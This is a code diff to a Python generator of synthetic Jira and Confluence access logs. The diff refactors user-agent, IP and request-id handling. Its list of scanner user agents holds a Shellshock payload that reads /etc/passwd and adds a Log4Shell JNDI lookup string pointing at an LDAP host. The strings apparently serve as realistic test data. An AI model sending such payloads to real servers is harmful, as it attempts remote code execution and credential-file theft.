@@ -330,8 +330,7 @@ class _Catalog:
     health: _Spec
     capabilities: tuple[_Spec, ...]
     capabilities_agent: str
-    service_calls: tuple[_Spec, ...]
-    service_agent: str
+    service_calls: tuple[_Spec, ...]  # by the service account
     scanner_probes: tuple[_Spec, ...]
 
 
@@ -613,7 +612,6 @@ def _jira_catalog(s: random.Random) -> _Catalog:
             make("GET /rest/api/2/field", "200 30000-60000B 20-300ms after 200-900ms"),
             make("GET /rest/api/2/project", "200 3000-9000B 20-300ms after 300-1200ms"),
         ),
-        service_agent="python-requests/2.31.0",
         scanner_probes=_scanner_probes(make),
     )
 
@@ -822,7 +820,6 @@ def _confluence_catalog(s: random.Random) -> _Catalog:
                 "200 10000-80000B 30-900ms after 300-1200ms chance 0.5",
             ),
         ),
-        service_agent="python-requests/2.31.0",
         scanner_probes=_scanner_probes(make),
     )
 
@@ -879,6 +876,7 @@ _SCANNER_AGENTS: Final = (
     "Mozilla/5.0 zgrab/0.x",
     '"Mozilla/5.0 (Windows NT 6.1; rv:60.0) Gecko/20100101 Firefox/60.0"',
     '() { :; }; echo; /bin/bash -c "cat /etc/passwd"',
+    "${jndi:ldap://203.0.113.50:1389/a}",
     "Go-http-client/1.1",
 )
 _HEALTH_AGENT: Final = "ELB-HealthChecker/2.0"
@@ -949,6 +947,8 @@ def _make_users(rng: random.Random, count: int, catalog: _Catalog) -> list[_User
         else:
             address = f"10.{rng.randint(16, 31)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
         engagement = rng.choices((0, 1, 2), (15, 65, 20))[0]  # light, regular, power user
+        if index == 1:  # not light, so that the quoted agent shows every week
+            engagement = max(engagement, 1)
         weights = [weight * rng.uniform(0.5, 1.5) for weight, _ in catalog.kinds]
         if rng.random() < 0.3:  # board fans, whose board stays open and polls
             weights[catalog.board_kind] *= 4
@@ -1127,6 +1127,7 @@ class _Simulation:
         _, _, request, after_clock, outcomes, took, spread, _, _ = spec
         u = self.rng.random()
         took += int(u * u * u * spread)  # mostly quick, now and then slow
+        # The far digits of the same draw choose the outcome: one random() per request.
         status, size = outcomes[int(u * 7919.0) % len(outcomes)]
         if after_clock is not None:
             request = f"{request}{self.epoch_ms + t}{after_clock}"
@@ -1151,6 +1152,7 @@ class _Simulation:
         every: int,
         late: int,
         spec: _Spec,
+        ip: str,
         user: _User | None,
         tail: str,
     ) -> None:
@@ -1162,7 +1164,6 @@ class _Simulation:
         _, _, request, after_clock, outcomes, took_least, spread, _, _ = spec
         random_ = self.rng.random
         epoch, shift = self.epoch_ms, node.shift_ms
-        ip = _LOAD_BALANCER_IP if user is None else user.address
         name = "-" if user is None else user.logged_name
         day_start = day_end = 0
         append = None
@@ -1356,7 +1357,8 @@ class _Simulation:
         rng = self.rng
         end = start + int(rng.uniform(1, 25) * MINUTE_MS)
         first = start + int(rng.uniform(5, 30) * SECOND_MS)
-        self._repeat(node, first, end, 30 * SECOND_MS, 400, page.heartbeat, user, tail)
+        heartbeat = page.heartbeat
+        self._repeat(node, first, end, 30 * SECOND_MS, 400, heartbeat, user.address, user, tail)
         return self._single(node, end, page.publish, user.address, user, tail)
 
     def _poll(
@@ -1371,7 +1373,7 @@ class _Simulation:
         for every, spec in page.polls:
             first = begin + int(random_() * every)
             # Browsers throttle the timers of background tabs: a second or two late.
-            self._repeat(node, first, end, every, 2 * SECOND_MS, spec, user, tail)
+            self._repeat(node, first, end, every, 2 * SECOND_MS, spec, user.address, user, tail)
 
     def _login(self, user: _User, node: _Node, session: str, t: int) -> int:
         if self.jira:
@@ -1417,8 +1419,8 @@ class _Simulation:
         for node in self.nodes:
             first = day_start + int(rng.random() * _HEALTH_CHECK_EVERY_MS)
             self._repeat(
-                node, first, day_end, _HEALTH_CHECK_EVERY_MS, 50, catalog.health, None,
-                tail(_HEALTH_AGENT),
+                node, first, day_end, _HEALTH_CHECK_EVERY_MS, 50, catalog.health,
+                _LOAD_BALANCER_IP, None, tail(_HEALTH_AGENT),
             )  # fmt: skip
 
         # The linked application asks for capabilities, anonymously.
@@ -1443,7 +1445,7 @@ class _Simulation:
                 session = _base36(rng.getrandbits(34))
                 at += spec[0] + int(rng.random() * spec[1])
                 at = self._single(
-                    node, at, spec, _SERVICE_IP, service, tail(catalog.service_agent, session)
+                    node, at, spec, _SERVICE_IP, service, tail(service.agent, session)
                 )
             t += _SERVICE_ACCOUNT_EVERY_MS
 
@@ -1454,7 +1456,8 @@ class _Simulation:
             address = f"203.0.113.{rng.randint(1, 254)}"
             at = day_start + int(rng.random() * DAY_MS)
             for spec in rng.sample(catalog.scanner_probes, rng.randint(3, 8)):
-                at = self._single(node, at + spec[0], spec, address, None, tail(agent))
+                at += spec[0] + int(rng.random() * spec[1])
+                at = self._single(node, at, spec, address, None, tail(agent))
 
     # ---------------------------------------------------------------- writing
 
@@ -1486,6 +1489,7 @@ class _Simulation:
                 self._bucket_of_day(node, day + 1).pending.extend(late)
             else:
                 pending.extend(line for line in late if line[0] < midnight)
+                pending.sort(key=_START if self.jira else _END)
         chunks = (
             self._jira_lines(node, pending) if self.jira else self._confluence_lines(node, pending)
         )
@@ -1523,7 +1527,8 @@ class _Simulation:
     def _jira_lines(self, node: _Node, pending: list[_Pending]) -> Iterator[str]:
         """Jira's lines of `pending` (in start order), in end order, some thousands at a time."""
         # Request ids: the node's counter, and the requests in flight when this one started.
-        ends = sorted([line[1] for line in pending])
+        end_times = [line[1] for line in pending]
+        ends = sorted(end_times)
         in_flight: list[int] = []
         ended = 0
         for started, line in enumerate(pending, start=1):
@@ -1533,20 +1538,20 @@ class _Simulation:
             in_flight.append(started - ended)
         counter = node.request_counter + 1
         node.request_counter += len(pending)
-        by_end = sorted(range(len(pending)), key=[line[1] for line in pending].__getitem__)
+        by_end = sorted(range(len(pending)), key=end_times.__getitem__)
         clock, numbers = _clock_labels(), _number_labels()
+        if max(in_flight, default=0) >= len(numbers):  # never seen, but possible
+            numbers = tuple(str(n) for n in range(max(in_flight) + 1))
         stamp_end = f' {node.offset_label}] "'
         for first in range(0, len(by_end), _CHUNK_LINES):
             lines = []
             for index in by_end[first : first + _CHUNK_LINES]:
                 start, _, ip, user, day, request, status, size, took, tail = pending[index]
                 ms = start % DAY_MS
-                flying = in_flight[index]
                 lines.append(
                     f"{ip} {numbers[ms // MINUTE_MS]}x{counter + index}x"
-                    f"{numbers[flying] if flying <= _LONGEST_REQUEST_MS else flying} {user} "
-                    f'[{day}:{clock[ms // 1000]}{stamp_end}{request}" {status} {size} '
-                    f"{numbers[took]} {tail}"
+                    f"{numbers[in_flight[index]]} {user} [{day}:{clock[ms // 1000]}{stamp_end}"
+                    f'{request}" {status} {size} {numbers[took]} {tail}'
                 )
             if self.malformed_every is not None:
                 self._spoil(lines, first)
